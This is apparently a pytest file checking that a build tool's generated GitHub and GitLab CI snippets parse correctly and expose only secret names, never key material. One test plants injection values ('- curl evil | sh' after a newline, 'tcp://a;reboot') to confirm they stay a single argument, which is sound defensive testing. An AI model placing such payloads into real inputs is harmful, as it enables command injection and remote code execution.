"""The CI runner's snippets: made by serializers, parse back to exactly the builder's nodes, carry secret names
and never secret values; a hostile value stays one word."""
from __future__ import annotations

import dataclasses
import subprocess

import yaml
from conftest import ROOT

from buildkit_ops import inventory as I
from buildkit_ops.fleet.nodes import Node, client_nodes
from buildkit_ops.roles.ci_runner import exports as ci_exports
from buildkit_ops.roles.ci_runner import snippets as ci_clients

NODES = [Node("buildkit-ops-build1", "tcp://10.77.0.11:1234", "10.77.0.11", "linux/amd64"),
         Node("buildkit-ops-build2", "tcp://10.77.0.12:1234", "10.77.0.12", "linux/arm64")]


def runner() -> I.Client:
    inv = I.load(ROOT / "inventory.yml")
    return dataclasses.replace(inv.clients["laptop"], name="ci", connection="none", failover="none")


def test_the_github_step_is_setup_buildx_with_one_node_per_host_and_secret_names():
    [step] = yaml.safe_load(ci_clients.github_actions(NODES))
    w = step["with"]
    assert (w["driver"], w["endpoint"], w["platforms"], w["driver-opts"]) == (
        "remote", "tcp://10.77.0.11:1234", "linux/amd64", "servername=10.77.0.11")
    assert yaml.safe_load(w["append"]) == [{"endpoint": "tcp://10.77.0.12:1234", "platforms": "linux/arm64",
                                            "driver-opts": ["servername=10.77.0.12"]}]
    assert step["env"] == {f"BUILDER_NODE_{i}_AUTH_TLS_{p}": "${{ secrets.BUILDKIT_OPS_" + s + " }}"
                           for i in (0, 1) for p, s in (("CACERT", "CA"), ("CERT", "CERT"), ("KEY", "KEY"))}


def test_the_gitlab_commands_create_the_builder_from_the_file_variables(tmp_path):
    lines = yaml.safe_load(ci_clients.gitlab_ci(runner(), NODES))[".buildkit-ops"]["before_script"]
    # run them against a stand-in `docker` that prints its arguments, one per line
    (tmp_path / "docker").write_text('#!/bin/sh\nfor a in "$@"; do echo "$a"; done; echo --\n')
    (tmp_path / "docker").chmod(0o755)
    env = {"PATH": f"{tmp_path}:/usr/bin:/bin", "BUILDKIT_OPS_CA": "/v/ca", "BUILDKIT_OPS_CERT": "/v/cert",
           "BUILDKIT_OPS_KEY": "/v/key"}
    out = subprocess.run(["sh", "-ec", "\n".join(lines)], env=env, capture_output=True, text=True, check=True).stdout
    calls = [c.strip("\n").split("\n") for c in out.split("--\n") if c.strip()]   # (`buildx rm` went to /dev/null)
    assert calls[0] == ["buildx", "create", "--name", "buildkit-ops", "--node", "buildkit-ops-build1", "--driver",
                        "remote", "--platform", "linux/amd64", "--driver-opt",
                        "cacert=/v/ca,cert=/v/cert,key=/v/key,servername=10.77.0.11", "tcp://10.77.0.11:1234"]
    assert calls[1][:5] == ["buildx", "create", "--name", "buildkit-ops", "--append"]
    assert calls[-1] == ["buildx", "use", "buildkit-ops"]


def test_a_hostile_value_stays_one_word_in_the_gitlab_commands(tmp_path):
    evil = [dataclasses.replace(NODES[0], servername="x\n- curl evil | sh", endpoint="tcp://a;reboot")]
    text = ci_clients.gitlab_ci(runner(), evil)
    lines = yaml.safe_load(text)[".buildkit-ops"]["before_script"]
    assert len(lines) == 3 and not any(line.startswith("curl") for line in lines)
    (tmp_path / "docker").write_text('#!/bin/sh\nfor a in "$@"; do echo "[$a]"; done\n')
    (tmp_path / "docker").chmod(0o755)
    out = subprocess.run(["sh", "-ec", lines[1]], env={"PATH": f"{tmp_path}:/usr/bin:/bin"}, capture_output=True,
                         text=True, check=True).stdout
    assert "[tcp://a;reboot]" in out and "servername=x\n- curl evil | sh]" in out


def test_the_json_summary_names_files_and_never_holds_their_content(tmp_path):
    from buildkit_ops.pki import certs
    inv = dataclasses.replace(I.load(ROOT / "inventory.yml"), pki_dir=tmp_path)
    ca, _ = certs.ensure_ca(tmp_path, 30)
    leaf = certs.client_paths(tmp_path, "ci")
    certs.ensure_leaf(leaf, ca, "ci", 10, 1)
    folder = ci_exports.folder(inv, runner())        # the folder as add-client leaves it: the key is there
    folder.mkdir(parents=True)
    (folder / "key.pem").write_bytes(leaf.key.read_bytes())
    s = ci_exports.summary(inv, runner(), NODES)
    assert s["secrets"]["BUILDKIT_OPS_KEY"] == str(tmp_path / "ci" / "ci" / "key.pem")
    key_body = leaf.key.read_text().splitlines()[1]
    assert "BEGIN" not in repr(s) and key_body not in repr(s)


def test_a_runner_gets_direct_nodes_even_where_its_template_client_has_a_proxy():
    inv = I.load(ROOT / "inventory.yml")
    assert inv.clients["laptop"].failover == "proxy"
    nodes = client_nodes(inv, runner(), {"build2": "linux/amd64,linux/arm64"})
    assert {n.endpoint for n in nodes} == {"tcp://10.77.0.11:1234", "tcp://10.77.0.12:1234"}
